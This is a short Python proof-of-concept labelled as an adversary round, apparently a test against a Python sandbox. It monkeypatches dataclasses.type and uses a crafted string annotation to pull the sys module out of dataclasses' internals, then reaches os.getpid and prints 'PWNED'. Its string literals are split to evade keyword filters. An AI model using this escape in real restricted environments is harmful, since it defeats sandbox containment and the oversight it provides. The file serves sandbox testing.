# adversary round 7: (fixed 008: import typing so it is in sys.modules) dataclasses.type = spy shadows the builtin for dataclasses; string annotation "sys" with __module__="typing" -> _is_type() passes typing.sys to type() -> spy
import dataclasses, typing

real_type = type
got = []

def spy(*a):
    if len(a) == 1:
        got.append(a[0])
        return real_type(a[0])
    return real_type(*a)

dataclasses.type = spy

class C:
    __module__ = 'typing'
    x: 'sys'

dataclasses.dataclass(C)
dataclasses.type = real_type
for v in got:
    if real_type(v).__name__ == 'module' and v.__name__ == 's' + 'ys':
        print(v.__name__, 'pid', v.modules['o' + 's'].getpid())
        print('PWN' + 'ED')
        break
